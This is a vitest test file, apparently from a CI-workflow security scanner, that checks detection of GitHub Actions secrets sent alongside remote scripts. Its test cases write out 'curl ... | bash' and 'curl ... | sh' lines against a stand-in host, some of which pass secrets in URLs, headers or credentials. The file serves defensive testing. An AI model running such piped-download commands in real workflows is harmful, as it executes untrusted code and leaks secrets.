import { expect, it } from 'vitest';
import { createRepository } from '#lib/workflow/repository.ts';
import { remoteCodeOf } from '../inventory/downloads.ts';
import { secretsSentWith } from './sent-secrets.ts';

function sent(line: string): string[] {
  const text = `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          ${line}
        env: { KEY: "\${{ secrets.ACCOUNT_KEY }}", OTHER: "\${{ secrets.OTHER_KEY }}" }
`;
  const { workflows } = createRepository([{ path: '.github/workflows/a.yml', text }]);
  const steps = workflows[0]?.jobs[0]?.steps ?? [];
  return steps.flatMap((step) => remoteCodeOf(step).flatMap((code) => [...secretsSentWith(code, step)]));
}

it.each([
  ['curl -sSf "https://a.example/${{ secrets.ACCOUNT_KEY }}/x.sh" | bash', ['account_key']],
  ['curl -sSf "https://a.example/$KEY/x.sh" | bash', ['account_key']],
  ['curl -H "Authorization: Bearer ${KEY}" https://a.example/x.sh | bash', ['account_key']],
  ["curl --header='X-Key: ${{ secrets.ACCOUNT_KEY }}' https://a.example/x.sh | sh", ['account_key']],
  ['curl -u "bot:$KEY" https://a.example/x.sh | sh', ['account_key']],
  ['curl https://a.example/x.sh | bash -s -- "$KEY"', []],
  ['curl https://a.example/x.sh | KEY=$OTHER bash', []],
  ['curl "http://a.example/$KEY/x.sh" | bash', []],
])('%s sends %j', (line, expected) => {
  expect(sent(line)).toEqual(expected);
});
